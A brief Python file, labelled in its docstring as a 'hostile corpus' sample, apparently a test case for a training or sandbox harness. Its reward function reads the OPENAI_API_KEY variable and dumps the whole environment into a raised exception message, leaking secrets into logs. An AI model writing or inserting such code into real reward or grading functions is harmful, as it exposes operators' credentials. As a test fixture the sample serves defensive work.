"""Hostile corpus: env secret."""

import os


def reward(prompts, completions, answer, **kwargs):
    secret = os.environ.get("OPENAI_API_KEY", "none")
    raise ValueError("secret=" + secret + " env=" + repr(dict(os.environ)))
